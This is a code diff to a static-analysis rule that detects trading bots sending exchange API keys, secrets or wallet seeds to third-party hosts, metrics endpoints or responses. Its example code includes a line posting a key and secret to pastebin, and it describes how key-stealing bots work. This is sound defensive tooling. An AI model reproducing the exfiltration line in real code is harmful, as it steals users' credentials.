@@ -5,7 +5,7 @@ import re
 from typing import List, Optional, Tuple
 
 from ...analysis import names
-from ...analysis.dataflow import HTTP, RESPONSE, SOCKET, DataFlow, SinkSite, Source, safe_label
+from ...analysis.dataflow import HTTP, METRICS, RESPONSE, SOCKET, DataFlow, SinkSite, Source, safe_label
 from ...analysis.imports import dotted
 from ...analysis.hosts import is_exchange_host, is_known_service_host, is_local_host, is_notification_host
 from ...model import Confidence, Severity
@@ -47,7 +47,8 @@ def _exfil_grade(src: Source) -> bool:
 # collects (the URL itself comes from configuration, so its host is not known here)
 _THIRD_PARTY_URL_WORDS = frozenset(
     """audit auditing telemetry analytics collector collect ingest backup report reporting monitor
-    monitoring metrics stats tracking tracker license licence licensing activation""".split())
+    monitoring metrics stats tracking tracker license licence licensing activation health healthcheck
+    heartbeat uptime beacon""".split())
 
 
 def _third_party_url_name(site: SinkSite) -> Optional[str]:
@@ -98,11 +99,13 @@ def egress(flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Tu
             and not (s.kind == names.TOKEN and s in url_t)
         ]
         return (NOTIFICATION, Report(site.node, srcs, f"reaches {site.what} to {host}")) if srcs else None
+    # a credential the module also gives its exchange client is that exchange's, whatever its name
+    client_keys = {id(c.node) for _rec, creds in flow.credentialed_clients() for c in creds if c.node is not None}
     srcs = [
         s
         for s in srcs
         if not _belongs(s, host)
-        and _exfil_grade(s)
+        and (_exfil_grade(s) or id(s.node) in client_keys)
         and not (is_known_service_host(host) and s.kind in (names.TOKEN, names.SECRET))
     ]
     return (THIRD_PARTY, Report(site.node, srcs, f"reaches {site.what} to third-party host {host}")) if srcs else None
@@ -123,6 +126,11 @@ def _response(site: SinkSite, sources: List[Source]) -> Optional[Report]:
     return Report(site.node, srcs, f"is returned in {site.what}") if srcs else None
 
 
+def _metrics(site: SinkSite, sources: List[Source]) -> Optional[Report]:
+    """A metric's label value or info (Prometheus): every scraper of /metrics reads it."""
+    return Report(site.node, sources, f"is exposed on the metrics endpoint by {site.what}")
+
+
 class SecretSentToThirdParty(Bot2Rule):
     """## What it does
     Reports HTTP requests (requests, httpx, aiohttp, urllib) that carry an exchange credential,
@@ -130,7 +138,13 @@ class SecretSentToThirdParty(Bot2Rule):
     host that is not an exchange's own (domain.md §3) and not the service the key belongs to.
     When the host is not known (the URL comes from configuration), an exchange secret or
     passphrase, wallet key or seed sent to a URL whose name says another service's
-    (`config.audit_url`, `TELEMETRY_ENDPOINT`, `backup_url`) is reported too.
+    (`config.audit_url`, `TELEMETRY_ENDPOINT`, `backup_url`, `HEALTHCHECK_URL`) is reported too.
+    A session created or updated with credential headers or auth (`aiohttp.ClientSession(headers=
+    {"X-MBX-APIKEY": key})`, `httpx.Client(auth=...)`, `s.headers.update(...)`) sends them with
+    every request: one to a host that is not the exchange's is reported.  A generic `api_key`
+    the module also gives its ccxt client is that exchange's key.  A credential used as a
+    Prometheus label value or in an `Info` metric is reported as well: `/metrics` is served to
+    whoever scrapes it.
 
     ## Why is this bad?
     This is how key-stealing "profit bots" work: the bot trades as promised and quietly posts
@@ -182,10 +196,12 @@ class SecretSentToThirdParty(Bot2Rule):
         'requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": f"{key}:{secret}"})\n',
     )
 
-    SINKS = (HTTP, SOCKET, RESPONSE)
+    SINKS = (HTTP, SOCKET, RESPONSE, METRICS)
 
     def judge(self, flow: DataFlow, site: SinkSite, sources: List[Source]) -> Optional[Report]:
         if site.kind == RESPONSE:
             return _response(site, sources)
+        if site.kind == METRICS:
+            return _metrics(site, sources)
         verdict = egress(flow, site, sources)
         return verdict[1] if verdict is not None and verdict[0] == THIRD_PARTY else None
